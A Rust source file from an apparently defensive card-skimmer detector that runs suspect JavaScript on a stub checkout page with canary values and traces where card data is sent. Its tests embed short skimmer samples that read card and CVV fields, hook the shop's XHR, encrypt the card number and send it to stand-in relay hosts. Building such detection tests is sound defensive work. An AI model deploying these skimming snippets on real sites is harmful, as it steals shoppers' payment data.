//! Running a whole obfuscated script against a stub checkout page, inside the sealed
//! interpreter. The decoder plans of [`super::shapes`] find a decoder by its shape and run only
//! it; obfuscators such as js-confuser (string concealing behind a flattened state machine,
//! decoders built at run time, everything wrapped in `Function(…)`) leave no shape to find, and
//! the static analysis sees only arithmetic. Such a script is run as a whole, after
//! `emulate.js` has installed a page made of stubs: fields that answer canary values (a valid
//! test card number for a card-number field), and senders that only record what they were
//! given. The page's load events, timers and a customer's typing and clicking follow. Nothing
//! leaves the sandbox: it still has no I/O, the same time, memory and output limits, and the
//! records are plain strings.
//!
//! What was sent is searched for the canaries (through URL encoding, Base64, hex and
//! reversal), and the flows found are written back as a few lines of plain JavaScript, a layer
//! the ordinary analysis reads like any decoded code: `document.querySelector("#cc_number")
//! .value` sent by `navigator.sendBeacon("https://…")`. The verdict therefore comes from the
//! same rules, field words and host policy as everywhere else.

use super::canaries::fields_in;
pub use super::canaries::{clean_send_hosts, masked_send_hosts};
use super::engine::{Limits, Outcome, Sandbox, SandboxError};
use super::page_words;
use super::statements::statement;
use serde::Deserialize;
use std::time::Duration;

/// What the script did on the stub page.
#[derive(Debug, Default, Deserialize)]
pub struct Observed {
    /// The page's origin on the stub page (`https://shop.example` when the real one is not
    /// known): URLs on it are the page's own, written back relative.
    #[serde(default)]
    pub origin: String,
    /// (selector or field key, canary value answered)
    pub reads: Vec<(String, String)>,
    /// (how, URL, data)
    pub sends: Vec<(String, String, String)>,
    /// (mark number, pipe key): what the page handed the script through a pipe it reads
    /// (an event's `detail`), marked so that a send carrying it shows where it went.
    #[serde(default)]
    pub pipes: Vec<(usize, String)>,
    /// (mark number, the DNS-over-HTTPS question it answered): see `drop_marks`.
    #[serde(default)]
    pub drops: Vec<(usize, String)>,
    /// The ids and names of the stub page's card-number and security-code fields.
    #[serde(default)]
    pub card_names: Vec<String>,
    /// Ids the script asked for before it made anything, which the page answered only
    /// because it answers every id (see `observe`).
    #[serde(default)]
    pub asked_ids: Vec<String>,
}

/// The budgets of one run, in interrupt polls (see [`Limits`]: counted work, so whether a
/// run reaches its send does not depend on the machine's load). A machine-obfuscated script
/// gets 6,000 polls, 5,000 of them for one step (about 3 s here; a 1 MB js-confuser high
/// build needs ~2 s, mostly its top level); a readable script that reads card fields, which
/// the stub page only has to take to its send, gets 800 (about 0.4 s): a library that spins
/// on the stubs (knockout waited out 1.5 s here) costs no more than that. The wall-clock
/// backstops are three times the time the work takes here.
pub fn limits(obfuscated: bool) -> Limits {
    let (work, per_run, time, time_per_run) = if obfuscated {
        (6_000, 5_000, 9_000, 7_500)
    } else {
        (800, 600, 1_200, 900)
    };
    Limits {
        work,
        work_per_run: per_run,
        time: Duration::from_millis(time),
        time_per_run: Duration::from_millis(time_per_run),
        ..Limits::default()
    }
}

/// Whether a script looks machine-obfuscated enough to be run whole: numbers written in hex
/// and `_0x` names, or letters written as string escapes, dense. Obfuscators write almost every number and name that way; libraries
/// (the 21 benign payment-page libraries: at most 20 in 54 KB, at most 13 in any 6,000
/// bytes) do not. Dense over the whole script, or over [`DENSE_WINDOW`] bytes of it: a
/// skimmer obfuscated and appended to a library (300-600 in 6,000 bytes measured) is
/// diluted by the library's bytes but not in its own.
pub fn worth_running(src: &str) -> bool {
    let b = src.as_bytes();
    let mut at: Vec<usize> = Vec::new();
    for i in 0..b.len().saturating_sub(2) {
        if b[i] == b'0' && (b[i + 1] == b'x' || b[i + 1] == b'X') && b[i + 2].is_ascii_hexdigit() {
            let before = if i > 0 { b[i - 1] } else { b' ' };
            if !before.is_ascii_alphanumeric() && before != b'$' {
                at.push(i);
            }
        } else if b[i] == b'\\'
            && (i == 0 || b[i - 1] != b'\\')
            && escaped_alphanumeric(&b[i + 1..])
        {
            at.push(i);
        }
    }
    let n = at.len();
    if n >= 24 && n * 150 >= src.len() {
        return true;
    }
    if has_cipher_table(b) {
        return true;
    }
    // The same density, one per 150 bytes, within some window.
    let need = DENSE_WINDOW / 150;
    at.windows(need).any(|w| w[need - 1] - w[0] <= DENSE_WINDOW)
}

/// A long string literal whose characters are spread almost evenly over printable ASCII (more
/// than 6.1 bits of entropy per character): the alphabet table of an obfuscator's own string
/// cipher (js-confuser's, with no hex number or escape in sight). Text, markup, regular
/// expressions and CSS stay under 5.7 bits in the 21 benign libraries; Base64 (64 symbols)
/// stays under 6.
fn has_cipher_table(b: &[u8]) -> bool {
    const MIN_LEN: usize = 512;
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if !matches!(q, b'"' | b'\'' | b'`') {
            i += 1;
            continue;
        }
        let start = i + 1;
        let mut j = start;
        let mut counts = [0u32; 256];
        let mut len = 0u32;
        while j < b.len() && b[j] != q && (q == b'`' || b[j] != b'\n') {
            if b[j] == b'\\' {
                j += 1;
            }
            if let Some(&c) = b.get(j) {
                counts[usize::from(c)] += 1;
                len += 1;
            }
            j += 1;
        }
        if len as usize >= MIN_LEN {
            let n = f64::from(len);
            let bits: f64 = counts
                .iter()
                .filter(|&&c| c > 0)
                .map(|&c| {
                    let p = f64::from(c) / n;
                    -p * p.log2()
                })
                .sum();
            if bits > 6.1 {
                return true;
            }
        }
        i = j + 1;
    }
    false
}

/// A module that only a module's syntax sets apart from a classic script — top-level
/// `await` — wrapped in an async function, the way the browser runs it: the sandbox runs
/// classic scripts, where the first `await` is a syntax error and nothing would run.
/// `None` for a classic script, and for a module that imports or exports (no function can
/// hold those).
fn module_body(src: &str) -> Option<String> {
    use oxc_span::SourceType;
    // Without the word no module syntax of the kind is there: skip the parses on the hot path.
    if !src.contains("await") {
        return None;
    }
    let alloc = oxc_allocator::Allocator::default();
    let script = oxc_parser::Parser::new(&alloc, src, SourceType::script()).parse();
    if !script.panicked && !script.diagnostics.has_errors() {
        return None;
    }
    let module = oxc_parser::Parser::new(&alloc, src, SourceType::mjs()).parse();
    if module.panicked
        || module.diagnostics.has_errors()
        || module
            .program
            .body
            .iter()
            .any(|s| s.is_module_declaration())
    {
        return None;
    }
    Some(format!("(async function () {{\n{src}\n}})();"))
}

/// A string escape of a letter or digit (`\x6c`, `\u0065`) at the start of `b` (after its
/// backslash). Nothing needs a letter escaped: obfuscators (js-confuser writes every string
/// so, with no hex number in sight) do it to hide words; libraries escape what a literal
/// cannot hold (`\u00e9`, `\x00`), and the 21 benign libraries escape at most 4 letters.
fn escaped_alphanumeric(b: &[u8]) -> bool {
    let hex = match b.first() {
        Some(b'x') => b.get(1..3),
        Some(b'u') => b.get(1..5),
        _ => None,
    };
    hex.and_then(|h| std::str::from_utf8(h).ok())
        .filter(|h| h.bytes().all(|c| c.is_ascii_hexdigit()))
        .and_then(|h| u32::from_str_radix(h, 16).ok())
        .and_then(char::from_u32)
        .is_some_and(|c| c.is_ascii_alphanumeric())
}

/// The window over which hex literals may be dense (see [`worth_running`]).
const DENSE_WINDOW: usize = 6_000;

/// The page a script runs on: the address of the page it was found on (when known) and that
/// page's payment fields, which the stub page adds to its own.
#[derive(Clone, Copy, Debug, Default)]
pub struct StubPage<'a> {
    pub url: Option<&'a str>,
    pub fields: &'a [crate::js::StubField],
}

/// Run `src` on the stub page and return what it read and sent.
///
/// The page answers every id, so that a script finds the elements it expects; a guard
/// against running twice (`if (document.getElementById(x)) return;`) then stops it, and in
/// an obfuscated script the id it gives its own form is no literal `page_words::made_ids`
/// can read. An obfuscated script whose run sent no field's data is run once more with the
/// ids it asked for before it made anything absent.
pub fn observe(src: &str, limits: Limits, at: StubPage<'_>) -> Result<Observed, SandboxError> {
    let (first, complete) = observe_with(src, limits, at, &[])?;
    // A run that ran out of a budget is not run again: a script that spins costs one budget.
    if !complete
        || first.asked_ids.is_empty()
        || !worth_running(src)
        || layer(&first, true).is_some()
    {
        return Ok(first);
    }
    match observe_with(src, limits, at, &first.asked_ids) {
        Ok((second, _)) if layer(&second, true).is_some() => Ok(second),
        _ => Ok(first),
    }
}

/// One run of [`observe`], with `also_absent` ids taken as not on the page; and whether it
/// ran to its end (no budget ran out).
fn observe_with(
    src: &str,
    limits: Limits,
    at: StubPage<'_>,
    also_absent: &[String],
) -> Result<(Observed, bool), SandboxError> {
    let page_url = at.url;
    let mut sandbox = Sandbox::new(limits)?;
    let own = serde_json::to_string(src).unwrap_or_else(|_| "\"\"".into());
    sandbox.run_own(
        "__skimscan_self_document",
        include_str!("self_document.js"),
        &own,
    )?;
    let page = page_url
        .filter(|u| u.starts_with("https://") || u.starts_with("http://"))
        .map(str::to_string)
        .unwrap_or_else(|| format!("https://{STUB_HOST}{STUB_PATH}"));
    let page = serde_json::to_string(&page).unwrap_or_else(|_| "null".into());
    sandbox.install_crypto()?;
    sandbox.install_media()?;
    sandbox.install_words()?;
    // The page, then what it gets natively (crypto, then the codecs, which reuse crypto's
    // byte helpers), then script elements that run the code put into them.
    for (what, name, source, args, then) in [
        (
            "",
            "__skimscan_emulate",
            include_str!("emulate.js"),
            page.as_str(),
            "",
        ),
        (
            "'s crypto",
            "__skimscan_web_crypto",
            include_str!("web_crypto.js"),
            "__skimscan_crypto, __skimscan_page",
            "delete globalThis.__skimscan_crypto",
        ),
        (
            "'s media",
            "__skimscan_media_setup",
            include_str!("media.js"),
            "__skimscan_media, __skimscan_page.codec",
            "delete globalThis.__skimscan_media",
        ),
        (
            "'s scripts",
            "__skimscan_script_elements",
            include_str!("script_elements.js"),
            "",
            "",
        ),
        (
            "'s styles",
            "__skimscan_computed_style",
            include_str!("computed_style.js"),
            "__skimscan_page.css",
            "",
        ),
    ] {
        if let Outcome::Threw = sandbox.run_own(name, source, args)? {
            return Err(SandboxError::Start(format!("the stub page{what} failed")));
        }
        if !then.is_empty() {
            sandbox.run(then)?;
        }
    }
    // Code the script makes as it runs (a decoded stage) says what it looks for as the
    // script's text does: the page answers its ids and captions too (see `prelude.js`).
    sandbox.run(concat!(
        "(function (words, page) { globalThis.__skimscan_code_seen = function (code) { ",
        "var w = JSON.parse(words(String(code))); page.hint(w.hints); page.captions(w.captions); }; ",
        "})(__skimscan_words, __skimscan_page); delete globalThis.__skimscan_words;"
    ))?;
    // The script's own exceptions end its top level, as in a browser; what it set up before
    // (listeners, timers) still runs.
    let mut steps = || -> Result<(), SandboxError> {
        if !at.fields.is_empty() {
            let fields = serde_json::to_string(at.fields).unwrap_or_else(|_| "[]".into());
            sandbox.run(&format!("__skimscan_page.mirror({fields})"))?;
        }
        let hints = serde_json::to_string(&page_words::hints(src)).unwrap_or_else(|_| "[]".into());
        sandbox.run(&format!("__skimscan_page.hint({hints})"))?;
        let words =
            serde_json::to_string(&page_words::captions(src)).unwrap_or_else(|_| "[]".into());
        sandbox.run(&format!("__skimscan_page.captions({words})"))?;
        // Last before the script: from here on, what is made is the script's.
        let mut made = page_words::made_ids(src);
        made.extend(also_absent.iter().cloned());
        let made = serde_json::to_string(&made).unwrap_or_else(|_| "[]".into());
        sandbox.run(&format!("__skimscan_page.absent({made})"))?;
        match module_body(src) {
            Some(wrapped) => sandbox.run(&wrapped)?,
            None => sandbox.run(src)?,
        };
        sandbox.drain_jobs(10_000)?;
        let steps = match sandbox.run("String(__skimscan_page.steps)")? {
            Outcome::Done(Some(n)) => n.parse::<usize>().unwrap_or(0),
            _ => 0,
        };
        for i in 0..steps {
            sandbox.run(&format!("__skimscan_page.step({i})"))?;
            sandbox.drain_jobs(10_000)?;
        }
        Ok(())
    };
    let ended = steps();
    // Records made before a budget ran out still count.
    let mut result: Observed = match sandbox.run("__skimscan_page.result()") {
        Ok(Outcome::Done(Some(json))) => serde_json::from_str(&json).unwrap_or_default(),
        _ => Observed::default(),
    };
    // `import(url)` is a request too (the sandbox's resolver kept the names).
    result.sends.extend(
        sandbox
            .imports()
            .into_iter()
            .map(|u| ("import".to_string(), u, String::new())),
    );
    match ended {
        Err(e) if result.sends.is_empty() => Err(e),
        Err(_) => Ok((result, false)),
        Ok(()) => Ok((result, true)),
    }
}

/// The sends of `observed` as plain JavaScript, or None when nothing was sent. `flows_only`:
/// only sends that carried a field's canary.
pub fn layer(observed: &Observed, flows_only: bool) -> Option<String> {
    let mut lines = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    for (how, url, data) in &observed.sends {
        if url.trim().is_empty() || lines.len() >= 24 {
            continue;
        }
        let url = own_relative(url, &observed.origin);
        let url = url.as_str();
        let fields = fields_in(&format!("{url}\n{data}"), &observed.reads);
        if flows_only && fields.is_empty() {
            continue;
        }
        // An address read from a dead drop's answer: the send as the lookup that led to it.
        let line = super::drop_marks::line(observed, how, url, &fields)
            .or_else(|| statement(how, url, &fields));
        if let Some(line) = line
            && seen.insert(line.clone())
        {
            lines.push(line);
        }
    }
    for line in super::pipe_marks::lines(observed) {
        if lines.len() < 24 && seen.insert(line.clone()) {
            lines.push(line);
        }
    }
    if lines.is_empty() {
        return None;
    }
    Some(format!(
        "// skimscan: what the script did when it ran in the sealed interpreter on a stub page\n{}\n",
        lines.join("\n")
    ))
}

/// The stub page's host when the real page's address is not known (see `emulate.js`), and
/// the shop's domain it stands for: shops strip `www.`, `shop.` or `checkout.` to address
/// their own subdomains (`'https://vault.' + host`), and the shop's name must survive that.
const STUB_HOST: &str = "www.shop.example";
const STUB_SITE: &str = "shop.example";

/// The stub page's path, query and fragment when only the page's host is known: a checkout
/// of every platform at once (skimmers test the address for their checkout's words:
/// `/checkout`, `controller=order`, `#/shopping`…), as the page analysed is a payment page.
pub const STUB_PATH: &str =
    "/checkout/onepage/payment/?controller=order&step=payment#/shopping/confirm";

/// A URL on the stub page's own origin, relative (`/api/pay`): the static analysis then
/// judges it the page's own, as the browser would be sending it to the page's host.
fn own_relative(url: &str, origin: &str) -> String {
    if origin.is_empty() {
        return url.to_string();
    }
    let host = origin.split_once("//").map(|(_, h)| h).unwrap_or(origin);
    // With no real page known, `shop.example` stands for the shop, and a host of its domain
    // (`'https://pay.' + location.hostname`) for the shop's own subdomain: first party.
    if host == STUB_HOST
        && let Some((_, rest)) = url.split_once("//")
        && let Some((h, path)) = rest.split_once('/').or(Some((rest, "")))
        && (h == STUB_SITE || h.ends_with(&format!(".{STUB_SITE}")))
    {
        return format!("/{path}");
    }
    for prefix in [origin.to_string(), format!("//{host}")] {
        if let Some(rest) = url.strip_prefix(&prefix)
            && (rest.is_empty() || rest.starts_with(['/', '?', '#']))
        {
            return if rest.is_empty() {
                "/".into()
            } else {
                rest.to_string()
            };
        }
    }
    url.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::js::sandbox::canaries::{PAN, sent_as_value};
    use base64::Engine as _;

    fn reads() -> Vec<(String, String)> {
        vec![
            ("#cc_number".into(), PAN.into()),
            ("#cc_cid".into(), "737".into()),
            ("#billing_email".into(), "jane.canary@mail.example".into()),
        ]
    }

    #[test]
    fn canaries_are_found_through_encodings() {
        let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{PAN};737"));
        let sent = format!(
            "d={}",
            percent_encoding::utf8_percent_encode(&b64, percent_encoding::NON_ALPHANUMERIC)
        );
        assert_eq!(fields_in(&sent, &reads()), vec!["#cc_number", "#cc_cid"]);
        let reversed: String = format!("x={PAN}").chars().rev().collect();
        assert_eq!(fields_in(&reversed, &reads()), vec!["#cc_number"]);
        let hex: String = PAN.bytes().map(|b| format!("{b:02x}")).collect();
        assert_eq!(fields_in(&hex, &reads()), vec!["#cc_number"]);
        // XORed with a one-byte key before Base64.
        let xored: Vec<u8> = format!("{PAN}|737").bytes().map(|b| b ^ 23).collect();
        let sent = format!(
            "d={}",
            base64::engine::general_purpose::STANDARD.encode(xored)
        );
        assert_eq!(fields_in(&sent, &reads()), vec!["#cc_number", "#cc_cid"]);
        // XORed, then hex-encoded; or XORed and sent as they are.
        let xored: Vec<u8> = format!("{PAN}-12-2029-737")
            .bytes()
            .map(|b| b ^ 7)
            .collect();
        let hex: String = xored.iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!(
            fields_in(&format!("sid={hex}"), &reads()),
            vec!["#cc_number", "#cc_cid"]
        );
        // Each value XORed and hex-encoded on its own, joined by dashes.
        let part = |v: &str| -> String { v.bytes().map(|b| format!("{:02x}", b ^ 7)).collect() };
        let sid = format!("{}-{}-{}", part(PAN), part("1229"), part("737"));
        assert_eq!(
            fields_in(&format!("sid={sid}"), &reads()),
            vec!["#cc_number", "#cc_cid"]
        );
        let raw = String::from_utf8(xored).unwrap();
        assert_eq!(
            fields_in(&format!("q={raw}"), &reads()),
            vec!["#cc_number", "#cc_cid"]
        );
        // Fifteen equal bytes after one that differs as `4` from `1` are no card number
        // without another canary under the same key.
        assert!(fields_in("blob=DAAAAAAAAAAAAAAAAAAAAAA", &reads()).is_empty());
        // A security code alone, or inside a longer number, is no match.
        assert!(fields_in("n=7370", &reads()).is_empty());
        assert!(fields_in("a=737", &reads()).is_empty());
    }

    #[test]
    fn a_send_becomes_a_plain_statement() {
        let obs = Observed {
            origin: String::new(),
            pipes: Vec::new(),
            drops: Vec::new(),
            reads: reads(),
            sends: vec![
                (
                    "beacon".into(),
                    "https://c.example/k?x=1".into(),
                    format!("n={PAN}"),
                ),
                (
                    "img".into(),
                    "https://img.example/p.gif".into(),
                    String::new(),
                ),
                ("worker".into(), "blob:x".into(), String::new()),
            ],
            card_names: Vec::new(),
            asked_ids: Vec::new(),
        };
        let code = layer(&obs, false).unwrap();
        assert!(code.contains(
            "navigator.sendBeacon(\"https://c.example/k\", [document.querySelector(\"#cc_number\").value].join(\"|\"));"
        ));
        assert!(code.contains("new Image().src = \"https://img.example/p.gif\";"));
        assert!(!code.contains("blob:"));
        assert!(layer(&Observed::default(), false).is_none());
    }

    #[test]
    fn only_dense_hex_counts_as_obfuscated() {
        let library =
            "var a = 0x10;\n".to_string() + &"function f(a) { return a + 1; }\n".repeat(400);
        assert!(!worth_running(&library));
        let obfuscated = "var _0x1=[0x1f,0x2a,0x3b];".repeat(40);
        assert!(worth_running(&obfuscated));
    }

    /// Letters written as escapes (js-confuser's strings) are obfuscation; escapes of what a
    /// literal cannot hold (accents, control characters in a library's tables) are not.
    #[test]
    fn escaped_letters_count_as_obfuscated() {
        let hidden = r#"var k=["\x6c\x65\x6e\x67\x74\x68","\u0066\u0072\u006f\u006d"];"#.repeat(10);
        assert!(worth_running(&hidden));
        let tables = r#"var m={"\u00e9":"e","\u00e8":"e","\x00":"","\u2028":"\n"};"#.repeat(40);
        assert!(!worth_running(&tables));
        let escaped_backslash = r#"var p="C:\\x64\\x65";"#.repeat(40);
        assert!(!worth_running(&escaped_backslash));
    }

    /// The stub page has senders that only record: a script that tries every way out
    /// reaches no socket (a listener on loopback sees no connection).
    #[test]
    fn a_cipher_alphabet_counts_as_obfuscated() {
        // Printable ASCII spread evenly, as an obfuscator's own string cipher keeps it.
        let table: String = (0..700u32)
            .map(|i| char::from_u32(33 + (i * 37) % 94).unwrap_or('!'))
            .filter(|c| !matches!(c, '"' | '\\'))
            .collect();
        assert!(worth_running(&format!("var k = \"{table}\"; f(k);")));
        // Markup and a regular expression of the same length do not.
        let markup = "<div class=\"row\"><label for=\"cc\">Card number</label><input id=\"cc\" name=\"cc\"></div>".repeat(8);
        assert!(!worth_running(&format!("var t = '{markup}';")));
        let words = "the quick brown fox jumps over the lazy dog, again and again; ".repeat(12);
        assert!(!worth_running(&format!("var t = \"{words}\";")));
    }

    #[test]
    fn nothing_leaves_the_sandbox() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let url = format!(
            "http://127.0.0.1:{}/c",
            listener.local_addr().unwrap().port()
        );
        let src = format!(
            r##"var u = "{url}", n = document.querySelector("#cc_number").value;
            fetch(u + "?f=" + n); navigator.sendBeacon(u, n); new Image().src = u + "?i=" + n;
            var x = new XMLHttpRequest(); x.open("POST", u); x.send(n);
            new WebSocket("ws" + u.slice(4)).send(n); document.write('<img src="' + u + '">');
            location.href = u; window.open(u); import(u).catch(function () {{}});"##
        );
        let obs = observe(&src, limits(true), StubPage::default()).unwrap();
        assert!(obs.sends.len() >= 7, "{:?}", obs.sends);
        std::thread::sleep(std::time::Duration::from_millis(100));
        assert!(
            matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
            "a connection reached the loopback listener"
        );
    }

    /// The page's own address is the stub's location (an EC-CUBE skimmer waits for
    /// `/shopping`), and a send to the page's own origin is written back relative.
    #[test]
    fn the_page_address_is_the_stub_location() {
        let src = r#"
            if (location.href.indexOf('/shopping') > 0) {
              var n = document.querySelector('#card_no').value;
              navigator.sendBeacon(location.origin + '/api/pay', n);
              navigator.sendBeacon('https://cdn.x-collect.example/k', n);
            }
        "#;
        let page = "https://www.realshop.example/shopping/payment";
        let obs = observe(
            src,
            limits(false),
            StubPage {
                url: Some(page),
                ..StubPage::default()
            },
        )
        .unwrap();
        assert_eq!(obs.origin, "https://www.realshop.example");
        let code = layer(&obs, true).unwrap();
        assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
        assert!(
            code.contains("\"https://cdn.x-collect.example/k\""),
            "{code}"
        );
        // Not a web address: the stub's own checkout, whose origin is written back relative too.
        let obs = observe(
            src,
            limits(false),
            StubPage {
                url: Some("site/index.html"),
                ..StubPage::default()
            },
        )
        .unwrap();
        let code = layer(&obs, true).unwrap();
        assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
    }

    /// A hook on `XMLHttpRequest.prototype.send` copies the shop's own order request (card
    /// fields in Magento's payment-information shape) to its host; the shop's request itself
    /// is no send.
    #[test]
    fn a_hook_on_the_shops_own_request_is_a_flow() {
        let src = r#"
            (function (p) {
              var send = p.send, open = p.open;
              p.send = function (body) {
                try {
                  var d = JSON.parse(body).paymentMethod.additional_data;
                  var c = new XMLHttpRequest();
                  open.call(c, 'POST', 'https://hook.x-relay.example/c');
                  send.call(c, btoa(d.cc_number + ':' + d.cc_cid));
                } catch (e) {}
                return send.apply(this, arguments);
              };
            })(XMLHttpRequest.prototype);
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
        let code = layer(&obs, true).unwrap();
        assert!(code.contains("https://hook.x-relay.example/c"), "{code}");
        assert!(code.contains("#cc_number"), "{code}");
    }

    /// A customer's visit reaches what a skimmer for another platform waits for: the move to
    /// the payment step (the URL's hash becomes `#payment`) and that platform's order button
    /// (OpenCart's `#button-confirm`). Written with computed ids, as obfuscated code leaves
    /// them: no literal hints. (Fields by id answer any id; the platform fields matter to
    /// scripts that compare `e.target.id`: obfuscation/js-confuser-bigcommerce-ids.js.)
    #[test]
    fn the_payment_step_and_other_platforms_order_buttons() {
        let src = r#"
            (function () {
              var id = ['button', 'confirm'].join('-'), f = 'cc' + 'Number';
              window.addEventListener('hashchange', function () {
                if (location.hash !== '#pay' + 'ment') return;
                document.addEventListener('click', function (e) {
                  if (!e.target || e.target.id !== id) return;
                  var v = document.getElementById(f).value;
                  new Image().src = 'https://px.step-watch.example/p?d=' + btoa(v);
                }, true);
              });
            })();
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
        let code = layer(&obs, true).unwrap();
        assert!(code.contains("https://px.step-watch.example/p"), "{code}");
        assert!(code.contains("#ccNumber"), "{code}");
    }

    /// Three things the stub page does as a browser would: a named AMD module runs, a
    /// container hears its fields' typing, and `[name="payment[method]"]` is no holder name.
    #[test]
    fn modules_bubbling_and_selector_words() {
        let src = r#"
            define('Vendor_Sync/js/x', [], function () {
              document.querySelector('#checkout').addEventListener('change', function (e) {
                if (e.target.name === 'payment[cc_number]')
                  navigator.sendBeacon('https://m.x-relay.example/b', e.target.value);
              });
            });
            document.querySelector('#place-order').addEventListener('click', function () {
              var m = document.querySelector('input[name="payment[method]"]:checked').value;
              navigator.sendBeacon('https://a.x-analytics.example/e', m);
            });
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        let code = layer(&obs, false).unwrap();
        assert!(
            code.contains("navigator.sendBeacon(\"https://m.x-relay.example/b\", [document.querySelector(\"#cc_number\")"),
            "{code}"
        );
        assert!(
            code.contains("navigator.sendBeacon(\"https://a.x-analytics.example/e\", [document.querySelector(\"input[name=\\\"payment[method]\\\"]:checked\")"),
            "{code}"
        );
        let method = obs
            .reads
            .iter()
            .find(|(k, _)| k.contains("payment[method]"))
            .map(|(_, v)| v.as_str());
        assert!(
            method.is_some_and(|v| v.starts_with("canary-")),
            "{method:?}"
        );
    }

    #[test]
    fn the_stub_page_records_a_flow_and_sends_nothing() {
        let src = r#"
            document.querySelector('#payment-form').addEventListener('submit', function () {
              var n = document.getElementById('card-number').value;
              var x = new XMLHttpRequest();
              x.open('POST', 'https://stats.example/c');
              x.send('d=' + btoa(n));
            });
        "#;
        let obs = observe(src, limits(true), StubPage::default()).unwrap();
        // The field, besides the page's own fields read as the customer types and the
        // shop's checkout request.
        assert!(
            obs.reads
                .contains(&("#card-number".to_string(), PAN.to_string()))
        );
        assert!(obs.reads.iter().all(|(k, _)| k.starts_with('#')));
        assert_eq!(obs.sends.len(), 1);
        let code = layer(&obs, false).unwrap();
        assert!(
            code.contains("x.open(\"POST\", \"https://stats.example/c\")"),
            "{code}"
        );
        assert!(
            code.contains("document.querySelector(\"#card-number\").value"),
            "{code}"
        );
    }

    #[test]
    fn a_guard_against_running_twice_does_not_stop_the_run() {
        // The overlay's own id is not on the page before the script makes it; other ids
        // (the page's fields) still answer, and so does the overlay once it is made.
        let src = r#"
            if (document.getElementById('sp-overlay')) throw new Error('twice');
            var id = 'cc_number';
            var box = document.createElement('div');
            box.id = 'sp-overlay';
            document.body.appendChild(box);
            if (!document.getElementById('sp-overlay')) throw new Error('lost');
            new Image().src = 'https://x-relay.example/i?c=' + document.getElementById(id).value;
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
        assert!(obs.sends[0].1.ends_with(PAN), "{:?}", obs.sends);
    }

    #[test]
    fn what_is_sent_sealed_carries_what_was_sealed() {
        // The card sealed with AES-GCM under a digest-derived key, sent as hex: the send is
        // recorded with the plaintext, and the decrypted endpoint is the real one.
        let src = r#"
            var S = crypto.subtle, te = new TextEncoder();
            var hex = function (b) { return Array.from(new Uint8Array(b), function (x) { return ('0' + x.toString(16)).slice(-2); }).join(''); };
            S.digest('SHA-256', te.encode('k')).then(function (h) {
              return S.importKey('raw', h, 'AES-GCM', false, ['encrypt']);
            }).then(function (k) {
              var iv = crypto.getRandomValues(new Uint8Array(16));
              return S.encrypt({ name: 'AES-GCM', iv: iv }, k, te.encode(document.getElementById('cc_number').value));
            }).then(function (ct) {
              new Image().src = 'https://x-relay.example/p?d=' + hex(ct) + '&id=' + crypto.randomUUID();
            });
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
        assert!(
            obs.sends[0].2.contains(PAN) || obs.sends[0].1.contains(PAN),
            "{:?}",
            obs.sends
        );
        assert!(
            !obs.sends[0].1.contains(PAN),
            "the URL itself is sealed: {:?}",
            obs.sends
        );
    }

    #[test]
    fn a_short_canary_counts_as_a_named_value_only() {
        assert!(sent_as_value(r#"{"payment[cc_cid]":"737","x":1}"#, "737"));
        assert!(sent_as_value("a=1&cvv=737&b=2", "737"));
        assert!(sent_as_value("exp_year=2029", "2029"));
        // Noise: a value without a field's name before it, or part of a longer number.
        assert!(!sent_as_value(r#"x!#:"737""#, "737"));
        assert!(!sent_as_value("n=73712", "737"));
        assert!(!sent_as_value(r#"{"ms":737}"#, "737"));
        // A DOM mirror's value says nothing of which field it was.
        assert!(!sent_as_value(r#"{"tag":"input","value":"737"}"#, "737"));
        // `cc` inside another word is no card field's name.
        assert!(!sent_as_value(r#"{"accept":"737"}"#, "737"));
        assert!(sent_as_value(r#"{"payment[cc_v]":"737"}"#, "737"));
    }

    #[test]
    fn scrubbed_sends_name_their_hosts_and_a_carried_code_spoils_them() {
        let reads = vec![("#cc_cid".to_string(), "737".to_string())];
        let clean = Observed {
            origin: "https://www.shop.example".into(),
            reads: reads.clone(),
            sends: vec![(
                "fetch".into(),
                "https://o1.ingest.errors.example/e".into(),
                r#"{"cc_cid":"[Filtered]"}"#.into(),
            )],
            pipes: Vec::new(),
            drops: Vec::new(),
            card_names: Vec::new(),
            asked_ids: Vec::new(),
        };
        assert_eq!(
            clean_send_hosts(&clean),
            vec!["o1.ingest.errors.example".to_string()]
        );
        let leaky = Observed {
            sends: vec![(
                "fetch".into(),
                "https://o1.ingest.errors.example/e".into(),
                r#"{"cc_cid":"737"}"#.into(),
            )],
            ..clean
        };
        assert!(clean_send_hosts(&leaky).is_empty());
    }

    #[test]
    fn a_string_timer_runs_its_code_when_it_fires() {
        // The code only listens for the order button once the timer ran it.
        let src = r#"
            window['setTime' + 'out']("document.addEventListener('mousedown', function () {" +
              " new Image().src = 'https://t-relay.example/i?c=' + document.querySelector('#cc_number').value; })", 0);
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        assert!(
            obs.sends
                .iter()
                .any(|s| s.1.starts_with("https://t-relay.example/") && s.1.ends_with(PAN)),
            "{:?}",
            obs.sends
        );
    }

    #[test]
    fn computed_style_answers_what_the_script_wrote() {
        // A pseudo-element's `content` and a custom property of `:root`, both from a style
        // sheet the script wrote; nothing else is declared.
        let src = r#"
            var s = document.createElement('style');
            s.textContent = '#probe::after{content:"moc.elpmaxe-yaler-c"} :root{--tail:"/x"}';
            document.head.appendChild(s);
            var p = document.createElement('i'); p.id = 'probe'; document.body.appendChild(p);
            var host = getComputedStyle(p, '::after').getPropertyValue('content').replace(/"/g, '').split('').reverse().join('');
